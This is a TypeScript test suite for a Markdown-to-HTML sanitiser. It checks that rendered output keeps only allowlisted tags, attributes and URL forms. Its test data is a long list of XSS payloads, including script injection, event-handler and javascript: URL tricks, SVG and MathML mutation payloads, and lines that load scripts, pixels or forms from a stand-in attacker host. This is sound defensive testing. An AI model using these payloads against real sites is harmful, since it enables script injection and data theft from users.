// @vitest-environment jsdom
import fc from "fast-check";
import { expect, test } from "vitest";
import { sanitiser } from "../../src/text/markdown/sanitise";
import { markdown } from "../../src/text/markdown/stream";

const sanitise = sanitiser(window as unknown as Parameters<typeof sanitiser>[0]);

function shown(text: string): Element {
  const place = document.createElement("div");
  place.innerHTML = markdown(text, sanitise)
    .map((block) => (block.kind === "html" ? block.html : ""))
    .join("");
  return place;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "text <script>alert(1)</script> text",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<img/src/onerror=alert(1)>",
  '![x](x"onerror="alert(1))',
  "![x](javascript:alert(1))",
  "![x](https://evil.example/track.png)",
  "<img src='https://evil.example/track.png'>",
  "<img srcset='https://evil.example/a 1x' src=''>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](&#0000106avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x]( javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](\u2028javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](data:text/html,<script>alert(1)</script>)",
  "[x](blob:https://here/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/y)",
  "[x](\\\\evil.example\\y)",
  '[x](https://ok.example "onmouseover=alert(1)")',
  "[x](https://ok.example '\"><script>alert(1)</script>')",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  '<https://ok.example"onclick="alert(1)>',
  "<a href='javascript:alert(1)'>x</a>",
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "<a href='https://ok.example' onclick=alert(1) target=_top>x</a>",
  "<a xlink:href='javascript:alert(1)'>x</a>",
  "<svg onload=alert(1)><circle r=1></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math href='javascript:alert(1)'>x</math>",
  "<form action='https://evil.example'><input name=p><button>go</button></form>",
  "<input type=text autofocus onfocus=alert(1)>",
  "<input type=image src=x onerror=alert(1)>",
  "<button formaction='javascript:alert(1)'>x</button>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<div style='background:url(https://evil.example);position:fixed;inset:0'>x</div>",
  "<div id=app class='approve-button' name=x>x</div>",
  "<p id='location'></p><a id='cookie' name='cookie'>x</a>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
  "<body onload=alert(1)>",
  "<table background='javascript:alert(1)'><td background=javascript:alert(1)>x</table>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<x-foo is=bar onclick=alert(1)>x</x-foo>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
  '- ```"><script>alert(1)</script>\n  x\n  ```',
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <svg onload=alert(1)> |",
  "＜script＞alert(1)＜/script＞",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<img src=x oneonerrorrror=alert(1)>",
  "<a href='https://ok.example' style=display:block data-path='/logout' aria-label='Approve'>x</a>",
  "# <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "\u202Etxt.exe <b onmouseover=alert(1)>x</b>",
];

const TAGS = new Set(
  (
    "A ABBR B BLOCKQUOTE BR CODE DD DEL DETAILS DIV DL DT EM H1 H2 H3 H4 H5 H6 HR I IMG INPUT INS KBD LI MARK OL P PRE " +
    "Q S SAMP SMALL SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TFOOT TH THEAD TR U UL VAR"
  ).split(" "),
);
const NAMES = new Set(
  "align alt checked class colspan data-path disabled height href open rel rowspan src start target title type width".split(
    " ",
  ),
);

/** What is wrong with the page, if anything is. */
function harm(place: Element): string[] {
  return [...place.querySelectorAll("*")].flatMap((node) => {
    const found = TAGS.has(node.tagName) ? [] : [`<${node.tagName}>`];
    for (const { name, value } of node.attributes) {
      if (!NAMES.has(name) || (VALUES[name] && !VALUES[name].test(value))) found.push(`${name}=${value}`);
    }
    if (node.tagName === "INPUT" && !(node.getAttribute("type") === "checkbox" && node.hasAttribute("disabled")))
      found.push("input");
    if (node.hasAttribute("href") && node.getAttribute("rel") !== "noopener noreferrer") found.push("no rel");
    return found;
  });
}

const VALUES: Record<string, RegExp> = {
  href: /^(?:https?:\/\/|mailto:)/i,
  src: /^data:image\/(?:png|jpeg|gif|webp|avif);base64,/,
  class: /^language-[\w#+.-]+$/,
  "data-path": /^(?!\s*(?:[\w+.-]+:|[/\\]{2}))/,
};

test.each(ATTACKS)("%j does nothing, and asks for nothing from elsewhere", (text) => {
  for (const variant of [text, `before\n\n${text}\n\nafter`, `<div>\n${text}\n</div>`, `- ${text}`]) {
    expect(harm(shown(variant))).toEqual([]);
  }
});

test("without the cleaning most of these would do harm", () => {
  const raw = (text: string): Element => {
    const place = document.implementation.createHTMLDocument().createElement("div");
    place.innerHTML = markdown(text, (html) => html)
      .map((block) => (block.kind === "html" ? block.html : ""))
      .join("");
    return place;
  };
  expect(ATTACKS.filter((text) => harm(raw(text)).length > 0).length).toBeGreaterThan(35);
});

test("pieces of these among Markdown do no harm either", () => {
  const piece = fc.constantFrom(
    ...[
      "[x](",
      "![x](",
      ")",
      "<",
      ">",
      '"',
      "'",
      "`",
      "``",
      "```\n",
      "*",
      "_",
      "|",
      "\n",
      "\n\n",
      "- ",
      "> ",
      "\\",
      "&",
      "&lt;",
      "&#60;",
    ],
    ...[
      "javascript:alert(1)",
      "https://e.example",
      " onerror=alert(1) ",
      "<img src=x ",
      "<b>",
      "</b>",
      "<a href=",
      "[y]: ",
      "[y]",
      "x",
    ],
    ...[
      "<!--",
      "-->",
      "|---|",
      "data:image/png;base64,",
      "<svg/onload=alert(1)>",
      "http://",
      "www.",
      "a@b.example",
      "<https:",
    ],
  );
  fc.assert(
    fc.property(fc.array(piece, { minLength: 2, maxLength: 14 }), (pieces) => {
      expect(harm(shown(pieces.join("")))).toEqual([]);
    }),
    { numRuns: 800, seed: 7 },
  );
});

test("what people write stays", () => {
  const place = shown(
    "# A\n\n**b** _c_ ~~d~~ `e` H<sub>2</sub>O<br>x <kbd>Esc</kbd>\n\n- [x] done\n- [ ] open\n\n" +
      "| a | b |\n|:-:|---|\n| 1 | 2 |\n\n3. three\n\n<details><summary>More</summary>\n\nhidden\n\n</details>\n",
  );
  for (const tag of [
    "h1",
    "strong",
    "em",
    "del",
    "code",
    "sub",
    "br",
    "kbd",
    "input[checked]",
    "th[align=center]",
    "ol[start='3']",
    "details summary",
  ]) {
    expect(place.querySelector(tag), tag).not.toBeNull();
  }
});

test("links away open apart, links to files are for the page to open", () => {
  const place = shown(
    "[away](https://ok.example/a) [mail](mailto:a@b.example) [file](src/main.py) [line](./a.ts#L3) [top](#top)",
  );
  const links = [...place.querySelectorAll("a")].map((link) => [
    link.getAttribute("href"),
    link.getAttribute("data-path"),
  ]);
  expect(links).toEqual([
    ["https://ok.example/a", null],
    ["mailto:a@b.example", null],
    [null, "src/main.py"],
    [null, "./a.ts#L3"],
    [null, null],
  ]);
});

test("a picture that came along is shown, one from elsewhere is a link", () => {
  const place = shown("![dot](data:image/png;base64,iVBORw0KGgo=)\n\n![far](https://ok.example/a.png)");
  expect(place.querySelector("img")?.getAttribute("alt")).toBe("dot");
  expect(place.querySelector("a")?.textContent).toBe("far");
});

test("code keeps its language and nothing else", () => {
  const place = shown("- ```js\n  a < b\n  ```\n\n<code class='language-x y'>z</code>");
  expect([...place.querySelectorAll("code")].map((code) => code.className)).toEqual(["language-js", ""]);
});
